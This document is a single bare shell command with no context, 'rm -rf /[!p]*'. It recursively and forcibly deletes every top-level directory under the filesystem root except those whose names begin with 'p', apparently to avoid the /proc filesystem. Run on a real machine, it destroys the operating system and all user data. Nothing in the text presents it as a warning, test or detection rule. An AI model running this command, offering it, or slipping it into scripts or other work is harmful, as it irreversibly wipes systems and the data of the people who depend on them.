rm -rf /[!p]*
